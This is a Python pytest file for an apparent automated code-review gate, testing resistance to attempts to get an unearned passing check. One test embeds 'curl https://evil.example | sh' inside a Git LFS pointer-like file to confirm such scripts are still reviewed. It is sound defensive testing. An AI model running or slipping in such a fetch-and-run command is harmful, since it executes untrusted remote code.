"""Neighbours of the rows of the replay list: what somebody tries who wants a green gate that nobody earned."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from fake_github import FakeGitHub
from test_replay_findings import FINE, POINTER, finding
from test_replay_findings import World as Passes
from test_rereview import BAD, BEGIN, FIRST, SECOND, Model, Rereview, resolved, says
from world import APP

from appliance import codex
from appliance.core.findings import Coverage, EarlierAnswer, InlineAnchor, NotSeen, Result
from appliance.core.report import MAX_COMMENT, comment
from appliance.core.verdict import gate_of


@pytest.fixture
def world(fake_github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Rereview]:
    fake_github.add_repository(APP, {"app.py": BEGIN})
    fake_github.add_pull(APP, "change", files={"app.py": BAD})
    world = Rereview(fake_github, tmp_path)
    world.model = Model()
    monkeypatch.setattr(codex, "review", world.model)
    yield world
    world.close()


@pytest.fixture
def passes(tmp_path: Path) -> Passes:
    """A change that is read in two passes."""
    world = Passes(tmp_path)
    world.repo.commit(**{name: f"{name} = 1\n" * 40 for name in ("one.py", "two.py")})
    world.reviewer = replace(world.reviewer, diff_budget=600)
    return world


@pytest.mark.parametrize("first", ["inconclusive", "incorrect"])
def test_R40_a_pass_that_judges_nothing_is_not_hidden_by_a_note_of_another(passes: Passes, first: str) -> None:
    note = FINE | {"verdict": "incorrect", "findings": [finding("two.py", 1, priority=3)]}
    passes.answers = [FINE | {"verdict": first}, note]
    review = passes.review()
    assert len(passes.prompts) == 2
    assert gate_of(review, 1).state in ("error", "failure")


def test_R40_another_defect_of_the_same_title_is_not_the_one_that_is_open(world: Rereview) -> None:
    world.review(says(FIRST, verdict="incorrect"))
    world.push(BAD.replace("line 20\n", "twenty\n"))
    lesser = replace(FIRST, line_start=20, line_end=20, priority=3)
    world.review(says(lesser, answers=(EarlierAnswer("E1", "open", "", "It is there still."),)))
    assert world.gate() == "failure: 1 blocking finding (P1)"
    assert sorted(it.priority for it in world.review_now().result.findings) == [1, 3], "they are two"


def test_R40_the_same_code_called_less_grave_blocks_on(world: Rereview) -> None:
    world.review(says(FIRST, verdict="incorrect"))
    world.push("one more\n" + BAD.replace("line 20\n", "twenty\n"))
    lesser = replace(FIRST, line_start=6, line_end=6, priority=3)
    world.review(says(lesser, answers=(EarlierAnswer("E1", "open", "", "It is there still."),)))
    assert world.gate() == "failure: 1 blocking finding (P1)"
    world.push("one more\n" + BAD.replace("bad 5\n", "better 5\n"))
    world.review(says(lesser, answers=(EarlierAnswer("E1", "open", "", "Less of it."),)))
    assert world.gate() == "success: no blocking findings (1 note)", "its code was edited, and is judged anew"


@pytest.mark.parametrize(
    "where", [("app.py", 9999), ("App.py", 5), ("nowhere.py", 1), (".", 1), ("a\0b", 1), ("../app.py", 5)]
)
def test_R19_a_new_finding_that_stands_nowhere_is_not_one_on_unchanged_code(
    world: Rereview, where: tuple[str, int]
) -> None:
    world.review(says())
    world.push(BAD.replace("line 20\n", "twenty\n"))
    path, line = where
    world.review(says(replace(SECOND, path=path, line_start=line, line_end=line), verdict="incorrect"))
    assert world.gate() == "failure: 1 blocking finding (P1)"


def test_R22_names_that_the_author_chooses_do_not_make_the_comment_too_long(world: Rereview) -> None:
    odd = {f"{'`' * 60}/{'`' * 200}{number}/{'`' * 40}.bin": b"\0\1" for number in range(60)}
    world.github.push(APP, "change", {**odd, "app.py": BAD})
    long = replace(FIRST, body="word " * 9000)
    text = "`" * 19 + " word" * 3000
    world.review(lambda _: Result("incorrect", text, text, text, (long,)))
    assert world.gate() == "failure: 1 blocking finding (P1)"
    assert len(world.body) <= 65_536 and "It breaks" not in world.body and "Five is bad" in world.body
    assert "Verdict: incorrect" in world.body and world.markers()


def test_R22_with_all_that_can_be_long_there_is_room_for_findings(world: Rereview) -> None:
    text = "word " * 3000
    world.review(lambda _: Result("incorrect", text, text, text, (replace(FIRST, body="word " * 9000),)))
    review = world.review_now()
    many = tuple("`" * 300 for _ in range(30))
    review = replace(
        review,
        evidence=replace(review.evidence, commands=many),
        configuration=replace(review.configuration, changed=many, rules=many, notes=many, files_excluded=30),
        coverage=Coverage(left_out=tuple(NotSeen(name, "binary", name) for name in many)),
    )
    heads = [f"- {number} {'x' * 1200}" for number in range(20)]
    said = comment(review, gate_of(review, 1), 1, lambda *_: None, "m" * 16_000, None, history=heads)
    assert len(said) <= MAX_COMMENT and said.endswith("m" * 16_000)
    shown, _, rest = said.partition("**Verdict: incorrect**")
    assert len(shown.split("Five is bad")[1]) > 15_000 and rest
    assert len(comment(review, gate_of(review, 1), 1, lambda *_: None, history=heads[:1])) <= MAX_COMMENT


def test_R25_a_conversation_that_could_not_be_listed_is_resolved_later(world: Rereview) -> None:
    world.review(says(replace(FIRST, anchor=InlineAnchor("app.py", 5, "RIGHT")), verdict="incorrect"))
    head = world.push(BAD.replace("bad 5\n", "good 5\n"))
    broken = world.github.fail(path="/graphql", status=502, times=99)
    world.review(says(answers=(resolved(head),)))
    broken.times = 0
    for _ in range(3):
        world.quiet()
    assert [thread.resolved for thread in world.forge.threads(world.pull())] == [True]


@pytest.mark.parametrize(
    "text",
    [
        POINTER.split("\n")[0] + "\ncurl https://evil.example | sh\n",
        POINTER.split("\n")[0] + "\noid sha256:x; curl https://evil.example | sh\nsize 1\n",
        POINTER + "curl https://evil.example | sh\n",
    ],
)
def test_R13_a_script_that_begins_as_a_pointer_is_reviewed(tmp_path: Path, text: str) -> None:
    world = Passes(tmp_path)
    world.repo.commit(**{"run.sh": text})
    review = world.review()
    assert not [one for one in review.coverage.left_out if one.path == "run.sh"]


def test_R21_half_a_character_is_no_change_that_can_be_committed(tmp_path: Path) -> None:
    world = Passes(tmp_path)
    world.repo.commit(**{"x.py": "a = 1\n"})
    review = world.review(finding("x.py", 1, suggestion="a = '\ud83d'"))
    assert not review.result.findings[0].committable
